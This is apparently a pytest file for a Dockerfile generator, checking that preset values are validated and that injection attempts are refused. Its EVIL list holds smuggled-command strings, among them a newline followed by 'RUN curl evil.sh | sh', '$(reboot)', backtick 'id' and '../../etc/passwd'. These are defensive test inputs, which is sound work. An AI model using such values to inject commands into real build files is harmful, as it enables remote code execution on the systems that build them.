"""Validation: every way in is checked by the same rules, and nothing can smuggle in an instruction."""

from __future__ import annotations

import pytest

from generator import UserError, default_preset, fields_for, parse_field, preset_from_mapping, render
from generator.model import preset_mapping
from generator.errors import InvalidValue
from generator.model import preset_warnings

#: Values that would break out of their place in a Dockerfile if they got through.
EVIL = [
    "index.js\nRUN curl evil.sh | sh",
    "index.js\rUSER root",
    'index.js"]\nCMD ["sh',
    "it's.js",
    "a b.js",
    "$(reboot).js",
    "`id`.js",
    "a;b.js",
    "a&&b.js",
    "../../etc/passwd.js",
    "/abs/path.js",
    "a\\b.js",
    "index.js # comment",
    "https://x.org/a\nRUN id",
    "https://x.org/a b",
    'https://x.org/"',
    "https://x.org/$(id)",
]


def test_defaults() -> None:
    preset = preset_from_mapping({}, "test")
    assert preset == default_preset()
    assert (preset.language, preset.package_manager, preset.node_version, preset.base, preset.port,
            preset.entrypoint) == ("node", "npm", 24, "slim", 3000, "index.js")


@pytest.mark.parametrize("key", ["entrypoint", "build_script", "build_output", "registry_mirror", "timezone"])
@pytest.mark.parametrize("value", EVIL)
def test_values_that_reach_the_dockerfile_cannot_inject(key: str, value: str) -> None:
    with pytest.raises(UserError) as info:
        preset_from_mapping({key: value}, "presets/x.yaml")
    assert str(info.value).startswith(f"presets/x.yaml: {key}: ")
    assert "\n" not in str(info.value) and "\r" not in str(info.value), "the error itself must stay one line"


@pytest.mark.parametrize("value", EVIL)
def test_time_zone_shape_check_without_a_tz_database(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    """On a machine with no tz database, the name's shape alone still keeps instructions out."""
    from generator import fields

    monkeypatch.setattr(fields, "_timezones", lambda: frozenset())
    with pytest.raises(UserError, match="timezone"):
        preset_from_mapping({"timezone": value}, "x")
    assert preset_from_mapping({"timezone": "Europe/Berlin"}, "x").timezone == "Europe/Berlin"


def test_description_is_one_line() -> None:
    with pytest.raises(UserError, match="x: description: must be one line"):
        preset_from_mapping({"description": "a\nb"}, "x")


@pytest.mark.parametrize(("data", "key", "fragment"), [
    ({"base": "scratch"}, "base", "allowed: full, slim, alpine, distroless"),
    ({"package_manager": "bun"}, "package_manager", "allowed: npm, yarn, pnpm"),
    ({"language": "rust"}, "language", "is not allowed; allowed: node, go, python"),
    ({"node_version": 23}, "node_version", "allowed: 22, 24, 26"),
    ({"node_version": "lts"}, "node_version", "whole number"),
    ({"node_version": True}, "node_version", "whole number"),
    ({"port": 0}, "port", "allowed: 1-65535"),
    ({"port": 70000}, "port", "allowed: 1-65535"),
    ({"port": "80; rm"}, "port", "whole number"),
    ({"timezone": "Asia/Shanghia"}, "timezone", "did you mean 'Asia/Shanghai'"),
    ({"timezone": "CST+8"}, "timezone", "IANA"),
    ({"registry_mirror": "http://registry.npmmirror.com"}, "registry_mirror", "https"),
    ({"registry_mirror": "registry.npmmirror.com"}, "registry_mirror", "https://host"),
    ({"entrypoint": "index.ts"}, "entrypoint", ".js, .mjs, .cjs"),
    ({"yarn_version": 5, "package_manager": "yarn"}, "yarn_version", "1 (classic)"),
    ({"yarn_version": 4}, "yarn_version", "only applies to package_manager yarn"),
    ({"lockfile": "maybe"}, "lockfile", "true or false"),
    ({"prot": 3000}, "prot", "did you mean 'port'"),
    ({"port": None}, "port", "required"),
])
def test_bad_values_name_the_key_and_what_is_allowed(data: dict, key: str, fragment: str) -> None:
    with pytest.raises(UserError) as info:
        preset_from_mapping(data, "my.yaml")
    message = str(info.value)
    assert message.startswith(f"my.yaml: {key}: ")
    assert fragment in message


def test_distroless_rejects_a_version_without_image() -> None:
    with pytest.raises(UserError, match="node_version"):
        preset_from_mapping({"base": "distroless", "node_version": 25}, "x")


def test_not_a_mapping() -> None:
    with pytest.raises(UserError, match="x.yaml: a preset must be a mapping"):
        preset_from_mapping(["npm"], "x.yaml")


def test_parse_field_is_what_the_wizard_uses() -> None:
    assert parse_field("port", "8080") == 8080
    assert parse_field("registry_mirror", "npmmirror") == "https://registry.npmmirror.com"
    assert parse_field("timezone", "") is None
    with pytest.raises(InvalidValue):
        parse_field("port", "eighty")
    assert set(fields_for()) >= {"language", "package_manager", "node_version", "base", "registry_mirror", "timezone",
                           "port", "entrypoint", "build_script"}


def test_dead_taobao_registry_warns_with_its_replacement() -> None:
    preset = preset_from_mapping({"registry_mirror": "https://registry.npm.taobao.org"}, "x")
    warnings = preset_warnings(preset)
    assert len(warnings) == 1
    assert "registry.npm.taobao.org" in warnings[0] and "https://registry.npmmirror.com" in warnings[0]


def test_yarn_defaults_to_classic() -> None:
    preset = preset_from_mapping({"package_manager": "yarn"}, "x")
    assert preset.yarn_version == 1 and not preset.yarn_berry
    assert "yarn install --frozen-lockfile --production" in render(preset).files["Dockerfile"]


def test_to_mapping_round_trips() -> None:
    preset = preset_from_mapping({"package_manager": "pnpm", "base": "distroless", "timezone": "UTC", "port": 8080},
                                 "x")
    assert preset_from_mapping(preset_mapping(preset), "y") == preset


def test_yarn_2_and_3_are_refused_with_the_upgrade() -> None:
    with pytest.raises(UserError, match=r"x: yarn_version: yarn 3 is past its end of life.*yarn set version 4"):
        preset_from_mapping({"package_manager": "yarn", "yarn_version": 3}, "x")


def test_build_script_needs_the_entrypoint_inside_its_output() -> None:
    with pytest.raises(UserError) as info:
        preset_from_mapping({"build_script": "build"}, "p.yaml")
    assert str(info.value).startswith("p.yaml: entrypoint: 'index.js' is outside build_output 'dist'")
    assert "allowed: a file under dist/" in str(info.value)
    assert preset_from_mapping({"build_script": "build", "build_output": "out", "entrypoint": "out/main.js"}, "p")


def test_set_package_manager_drops_the_presets_yarn_version() -> None:
    """`--set package_manager=npm` on a yarn preset: yarn_version came from the file, and no longer applies."""
    preset = preset_from_mapping({"package_manager": "npm", "yarn_version": 1}, "yarn.yaml",
                                 origins={"package_manager": "--set"})
    assert preset.package_manager == "npm" and preset.yarn_version is None
    with pytest.raises(UserError, match="yarn.yaml: yarn_version: only applies"):
        preset_from_mapping({"package_manager": "npm", "yarn_version": 1}, "yarn.yaml")
